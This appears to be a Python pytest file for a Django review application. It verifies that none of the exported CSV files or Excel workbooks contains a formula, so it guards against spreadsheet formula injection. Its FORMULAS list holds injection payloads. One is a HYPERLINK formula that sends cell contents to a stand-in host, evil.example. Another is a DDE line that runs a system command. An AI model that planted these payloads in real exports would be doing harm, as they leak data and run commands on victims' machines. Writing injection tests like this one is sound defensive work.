"""Item 17: no cell of any file of the product is a formula, whatever a customer, a bot or a colleague wrote."""

import ast
import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
import time_machine
from django.conf import settings as live
from django.core.management import call_command
from django.utils import timezone

from reviewapp import exports
from tests.attacked import client_of, files, make_attacked
from tests.documents import MAIN
from tests.factories import make_judged
from tests.planting import Words

SIGNS = "=+-@\t\r\n＝＋－＠﹢﹣﹦﹫"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"x")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=cmd|' /C calc'!A0",
    "+x", "-x", "@x", "\u2003＝1", "=1;=1", '="x"', '"=1+1', ";=1+1", "'=1", '";=1+1;"', '"\r\n=1+1',
]  # fmt: skip
NUMBER = re.compile(r"-?\d+(,\d+)?(e-?\d+)?")
"""A cell that begins with a sign may be one of our own numbers."""
WRITERS = {"csv": {"reviewapp/exports/cells.py"}, "xlsxwriter": {"reviewapp/exports/workbook.py"}}
READERS = {"contactcenter/datafiles.py", "reviewapp/exports/forgetting.py"}
OTHERS = {"openpyxl", "pandas", "xlwt", "odf", "tablib", "pyexcel"}


@pytest.mark.django_db(transaction=True)
def test_item_17_no_cell_of_any_file_is_a_formula(settings: Any, tmp_path: Path) -> None:
    settings.HOME = type(settings.HOME)(tmp_path / "home")  # the week is in no folder yet
    settings.MIN_GROUP = 2  # small groups are told by their names too
    with time_machine.travel(WEDNESDAY):
        assert make_attacked(Words(FORMULAS), ("=1+1", "＝1")) == []
        made = dict(files_of_pages())
    late = dict.fromkeys(("question", "answer", "topic", "channel", "segment"), "=1+1")
    make_judged(answered_at=WEDNESDAY - WEEK, decided_at=WEDNESDAY + timedelta(days=1), **late)
    with time_machine.travel(WEDNESDAY + WEEK):
        made |= files_of_commands(tmp_path)
    assert set(made) == EXPECTED
    assert {
        name: found for name, cells in made.items() if (found := [cell for cell in cells if is_formula(cell)])
    } == {}
    without = {name for name, cells in made.items() if not any(cell.startswith("'") for cell in cells)}
    assert without == EMPTY


WEEK, WEDNESDAY = timedelta(days=7), datetime(2026, 11, 25, 12, tzinfo=UTC)
EXPECTED = {
    "audit/audit.csv", "dashboard/equal-treatment/table.csv", "dashboard/export.csv", "dashboard/export.xlsx",
    "dashboard/groups.csv", "manage/training/register.csv", *(
        f"{place} {name}" for place in ("page", "command", "preview")
        for name in ("corrected_figures.csv", "corrections.csv", "export.xlsx", "figures.csv", "frame.csv", "gaps.csv",
                     "report.xlsx", "retrain.csv", "verdicts.csv")
    ),
}  # fmt: skip
EMPTY = {"page corrected_figures.csv", "page corrections.csv", "page gaps.csv"}
"""The first week that is exported has nothing to correct; the next one, made by the command, has."""


def files_of_pages() -> Iterator[tuple[str, list[str]]]:
    """Each CSV file and workbook that an address gives. Another one would fail the test of item 8, which opens every page."""
    for who, address in files():
        name = address.removeprefix("/").partition("?")[0]
        if name.endswith((".csv", ".xlsx")):
            answer = client_of(who).get(address)
            parts = answer.streaming_content if answer.streaming else [answer.content]
            name = f"page {name.rsplit('/', 1)[1]}" if name.startswith("exports/") else name
            yield name, cells_of(name, b"".join(parts))


def files_of_commands(folder: Path) -> dict[str, list[str]]:
    week = str(exports.last_finished(timezone.now()))
    call_command("export_week", week, "--preview", "--out", str(folder / "preview"))
    call_command("export_week", week, "--out", str(folder / "command"))
    tables = (file for file in folder.glob("*/*") if file.suffix in {".csv", ".xlsx"})
    return {f"{file.parent.name} {file.name}": cells_of(file.name, file.read_bytes()) for file in tables}


def cells_of(name: str, raw: bytes) -> list[str]:
    """Of a workbook with a ' before the cells that a spreadsheet keeps as text, also after an edit."""
    if name.endswith(".csv"):
        text = io.StringIO(raw.decode("utf-8-sig"), newline="")
        return [cell for row in csv.reader(text, delimiter=";") for cell in row]
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [entry for entry in book.namelist() if entry.startswith("xl/worksheets/")]
        assert not [entry for entry in book.namelist() if "external" in entry.lower()]
        return [cell for entry in sheets for cell in cells_of_sheet(book.read(entry), quoted=quoted_styles(book))]


def quoted_styles(book: zipfile.ZipFile) -> set[int]:
    formats = ET.fromstring(book.read("xl/styles.xml")).find(f"{MAIN}cellXfs")  # noqa: S314
    assert formats is not None
    return {place for place, style in enumerate(formats) if style.get("quotePrefix") == "1"}


def cells_of_sheet(raw: bytes, *, quoted: set[int]) -> Iterator[str]:
    root = ET.fromstring(raw)  # noqa: S314
    assert not [tag for tag in ("f", "hyperlink", "oleObject") if root.find(f".//{MAIN}{tag}") is not None]
    for cell in root.iter(f"{MAIN}c"):
        text = "".join(cell.itertext())
        number = cell.get("t") is None
        yield "" if number else ("'" if int(cell.get("s", 0)) in quoted else "") + text


def is_formula(cell: str) -> bool:
    """By the list of signs, before which a reader may not see what stands there."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    seen = cell.lstrip("\u00a0\u2003\u200b\ufeff\u202e ")
    return seen[:1] != "" and seen[0] in SIGNS and not NUMBER.fullmatch(cell)


def test_item_17_one_module_writes_csv_and_one_writes_workbooks() -> None:
    found: dict[str, set[str]] = {}
    for file in sorted([*Path("reviewapp").rglob("*.py"), *Path("contactcenter").rglob("*.py")]):
        for module in imported(ast.parse(file.read_text(encoding="utf-8"))) & {"csv", "xlsxwriter", *OTHERS}:
            found.setdefault(module, set()).add(str(file))
    assert found == WRITERS | {"csv": WRITERS["csv"] | READERS}
    assert not [file for file in READERS if re.search(r"[wW]riter", (live.BASE_DIR / file).read_text())]


def test_item_17_no_module_gives_a_spreadsheet_in_another_way() -> None:
    """Whoever names the type of such a file makes it with the writers of exports/."""
    sends = [
        file
        for file in Path("reviewapp").rglob("*.py")
        if re.search(r"text/csv|HttpResponse.*spreadsheetml", file.read_text())
    ]
    assert len(sends) >= 5
    assert [str(file) for file in sends if not re.search(r"CsvWriter|csv_parts|selected\.", file.read_text())] == []


def imported(tree: ast.Module) -> set[str]:
    """The packages that a module names in an import, at its top or within a function."""
    names = set[str]()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module.split(".")[0])
    return names
